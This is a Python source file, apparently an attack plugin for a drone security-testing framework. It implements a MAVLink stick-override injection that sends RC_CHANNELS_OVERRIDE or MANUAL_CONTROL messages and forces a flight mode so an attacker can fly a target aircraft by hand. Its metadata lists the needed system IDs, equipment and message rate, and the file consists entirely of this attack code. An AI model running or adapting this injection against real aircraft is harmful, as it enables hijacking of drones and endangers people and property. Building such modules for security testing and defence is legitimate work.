"""Stick override: RC_CHANNELS_OVERRIDE or MANUAL_CONTROL moves the pilot's sticks in a mode that obeys them."""

from __future__ import annotations

from typing import Literal

import skyrange.plugin as sky
from skyrange.attack.bases.mavlink.orders import ModeKeeper, stick_message


@sky.attack(
    "mavlink.rc_override",
    technique="T0831",
    persists="acts",
    effect="the aircraft is flown by hand by the attacker, until its messages end",
    knowledge="system ids of the aircraft and of the station that it obeys (SYSID_MYGCS)",
    equipment="a computer with a MAVLink library, or a joystick",
    budget="rate_hz frames in a second",
    content="the same frames with sticks in the middle, in the mode of the plan",
    placement="the same frames to another aircraft",
)
class StickOverride(sky.Injection):
    """Moves the pilot's sticks by messages, in a mode that obeys them."""

    reads = ("HEARTBEAT",)

    message: Literal["RC_CHANNELS_OVERRIDE", "MANUAL_CONTROL"] = sky.param(
        "MAVLink message that carries the stick positions.", default="RC_CHANNELS_OVERRIDE"
    )
    mode: Literal["none", "STABILIZE", "ALT_HOLD", "LOITER"] = sky.param(
        "Mode to change to; none: as it is. In AUTO, GUIDED and RTL the yaw stick alone has effect.", default="LOITER"
    )
    forward: sky.Number = sky.param("Pitch stick: 1 is full forward, -1 full back.", default=0.0, ge=-1, le=1)
    right: sky.Number = sky.param("Roll stick: 1 is full right, -1 full left.", default=0.0, ge=-1, le=1)
    throttle: sky.Number = sky.param("Throttle stick: 0 is lowest, 0.5 holds the height.", default=0.5, ge=0, le=1)
    yaw: sky.Number = sky.param("Yaw stick: 1 is full right, -1 full left.", default=0.0, ge=-1, le=1)
    rate_hz: sky.Number = sky.param("Messages in a second.", default=10.0, ge=0.5, le=50)
    keeper: ModeKeeper

    def prepare(self, context: sky.AttackContext) -> None:
        self.every_s = 1.0 / self.rate_hz
        self.keeper = ModeKeeper(None if self.mode == "none" else sky.copter_mode(self.mode), sky.NS_PER_S, self.sham)

    def on_message(self, now: sky.Time, message: sky.MavlinkMessage) -> None:
        self.keeper.learn(message)

    def orders(self, now: sky.Time) -> list[sky.Order | sky.MavlinkMessage]:
        sticks = (self.forward, self.right, self.throttle, self.yaw)
        moved = stick_message(self.target, sky.AUTOPILOT, sticks, manual=self.message == "MANUAL_CONTROL")
        return [moved, *self.keeper.orders(now)]
